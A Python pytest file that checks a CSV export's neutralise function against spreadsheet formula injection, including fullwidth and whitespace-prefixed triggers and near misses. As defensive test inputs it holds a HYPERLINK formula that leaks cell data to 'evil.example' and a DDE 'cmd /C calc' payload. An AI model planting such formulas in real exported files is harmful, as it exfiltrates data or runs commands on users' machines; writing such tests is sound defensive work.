"""Outbound CSV cells never start a spreadsheet formula, in any form a spreadsheet folds to one.

One table (the Presidio recognizer-test shape): every trigger, its fullwidth and other
compatibility forms, each after leading whitespace, and the near misses that must stay as sent.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from asbhub.pipeline.feed import neutralise, write_records

ASCII_TRIGGERS = ["=", "+", "-", "@", "|"]
# Each ASCII trigger's compatibility forms, which NFKC (and a spreadsheet) folds to it.
FOLDED_FORMS = {
    "=": ["\uff1d", "\ufe66", "\u207c", "\u208c"],  # fullwidth, small, superscript, subscript
    "+": ["\uff0b", "\ufe62", "\u207a", "\u208a"],
    "-": ["\uff0d", "\ufe63", "\u207b", "\u208b", "\u2212"],  # ... and the minus sign
    "@": ["\uff20", "\ufe6b"],
    "|": ["\uff5c"],
}
LEADING_WHITESPACE = [
    " ",
    "   ",
    "\t",
    "\r",
    "\n",
    "\u00a0",  # no-break space
    "\u3000",  # ideographic space
    "\u2003",  # em space
    "\u200b",  # zero-width space (a format character, invisible)
    "\ufeff",  # byte-order mark
    "\u200e",  # left-to-right mark
]
PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"open")'

TRIGGERED = sorted(
    {trigger + PAYLOAD for trigger in ASCII_TRIGGERS}
    | {form + PAYLOAD for forms in FOLDED_FORMS.values() for form in forms}
    | {
        space + trigger + PAYLOAD
        for space in LEADING_WHITESPACE
        for trigger in [*ASCII_TRIGGERS, *(f for forms in FOLDED_FORMS.values() for f in forms)]
    }
    | {
        "\tplain text",  # a leading tab or CR is a trigger in itself
        "\rplain text",
        "-5",  # the existing rule: any leading minus, numbers included (strip one `'` to load)
        "+44 7700 900123",
        "-1+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "| ls",
    }
)

UNTOUCHED = [
    "",
    "plain text",
    "a=b",
    "x + y",
    "name@example.org",
    "left|right",
    "2026-11-25",
    "2026-11-25T21:04:00+00:00",
    "25-34",  # an age band
    "SS1 2",  # a postcode sector
    "true",
    "12",
    "'=already quoted",
    "   ",  # only whitespace: nothing to run
    " plain after a space",
    "\u2013 an en dash opens this note",  # not folded to `-` by NFKC or a spreadsheet
    "\u2014 an em dash too",
    "\uff21\uff22\uff23 fullwidth letters",
    "\uff05 fullwidth percent",
    "\u00b1 plus-minus sign",
    "<PERSON> was seen at <UK_POSTCODE>",
]


@pytest.mark.parametrize("cell", TRIGGERED, ids=ascii)
def test_a_cell_a_spreadsheet_would_run_gets_one_leading_apostrophe(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", UNTOUCHED, ids=ascii)
def test_a_near_miss_stays_exactly_as_sent(cell: str) -> None:
    assert neutralise(cell) == cell


def test_the_written_csv_file_carries_the_apostrophe_and_jsonl_carries_the_value(
    tmp_path: Path,
) -> None:
    cells = ["\uff1dcmd()", " \uff0b1", "\u3000@x", "|pipe", "a=b"]
    rows = [{"referral_id": f"R{i}", "narrative": cell} for i, cell in enumerate(cells)]
    csv_path = tmp_path / "referrals.csv"
    write_records(csv_path, "csv", ["referral_id", "narrative"], rows)
    with csv_path.open(encoding="utf-8", newline="") as fh:
        written = [row["narrative"] for row in csv.DictReader(fh)]
    assert written == ["'\uff1dcmd()", "' \uff0b1", "'\u3000@x", "'|pipe", "a=b"]
    jsonl_path = tmp_path / "referrals.jsonl"
    write_records(jsonl_path, "jsonl", ["referral_id", "narrative"], rows)
    assert all(cell in jsonl_path.read_text(encoding="utf-8") for cell in ["a=b", "|pipe"])
